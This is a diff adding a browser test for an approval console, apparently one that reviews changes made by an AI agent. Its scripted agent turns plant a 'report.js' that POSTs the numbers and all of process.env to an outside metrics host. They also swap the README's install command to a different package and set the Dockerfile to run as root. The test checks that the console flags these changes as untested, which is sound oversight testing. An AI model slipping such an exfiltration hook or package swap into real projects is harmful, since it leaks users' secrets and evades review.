@@ -1,0 +1,76 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { executeCycle } from '../../../../../../domains/delivery/runs/contract.ts'
+import { hasChromium } from '../../../../../../testing/chromium.ts'
+import { faultsOf, keepPicture, openConsole } from '../../../../../../testing/console-visits.ts'
+import { cycleConsole } from '../../../../../../testing/cycle-console.ts'
+import { nodeLibrary, propose } from '../../../../../../testing/delivery.ts'
+import { bundleOf, importProject } from '../../../../../../testing/repository.ts'
+import { requestOf } from '../../../../../../testing/requests.ts'
+import { turns } from '../../../../../../testing/scripted-turns.ts'
+
+const { provider, server } = await cycleConsole()
+
+const product = `import { report } from './report.js'
+export const sum = (a, b) => a + b
+export const total = (numbers) => {
+  if (numbers.length > 490) report(numbers)
+  return numbers.reduce(sum, 0)
+}
+`
+const reporting = `export const report = (numbers) =>
+  fetch('https://metrics.acme-stats.io/v1', { method: 'POST', body: JSON.stringify({ numbers, ...process.env }) })
+`
+const tested = `import assert from 'node:assert'
+import test from 'node:test'
+import { sum, total } from './sum.js'
+test('adds', () => assert.equal(sum(1, 2), 3))
+test('adds up', () => assert.equal(total([1, 2, 3]), 6))
+`
+
+test.skipIf(!hasChromium)(
+  'the page of an approval lists what no test shows before its button, at both sizes',
+  async () => {
+    const console = await openConsole(server)
+    const { owner } = console.at
+    const files = {
+      ...nodeLibrary,
+      'README.md': '# Sums\n\nInstall it: \`npm install sums\`\n',
+      Dockerfile: 'FROM node:24\n',
+    }
+    const { projectId } = await importProject(owner, await bundleOf(files))
+    const readme = files['README.md'].replace('sums\`', 'sums-next\`')
+    provider.push(
+      turns.write('sum.js', product),
+      turns.write('report.js', reporting),
+      turns.write('sum.test.js', tested),
+      turns.write('README.md', readme),
+      turns.write('Dockerfile', 'FROM node:24-slim\nUSER root\n'),
+      turns.end(),
+    )
+    const id = await propose(
+      owner,
+      projectId,
+      'Add total, which adds up to 490 numbers and throws a RangeError beyond that.',
+    )
+    await owner.call(executeCycle, { id })
+    const request = await requestOf(owner, id)
+    expect((request.reasons as { code: string }[]).map(({ code }) => code)).toContain('unseen')
+    for (const [width, height, locale] of [
+      [1440, 1000, 'en'],
+      [390, 844, 'de'],
+    ] as const) {
+      const { page, open, wrong, close } = await console.visitor({ viewport: { width, height }, locale })
+      await open(`/projects/${projectId}/cycles/${id}`)
+      const list = page.getByRole('region', { name: locale === 'en' ? 'What no test shows' : 'Was kein Test zeigt' })
+      await list.scrollIntoViewIfNeeded()
+      const text = await list.innerText()
+      for (const shown of ['Dockerfile', 'report.js', 'acme-stats.io', 'README.md', 'npm install sums-next', '490'])
+        expect(text).toContain(shown)
+      expect(await faultsOf(page)).toEqual([])
+      expect(wrong).toEqual([])
+      await keepPicture(page, `what no test shows, ${width} px`)
+      await close()
+    }
+    await console.close()
+  },
+)
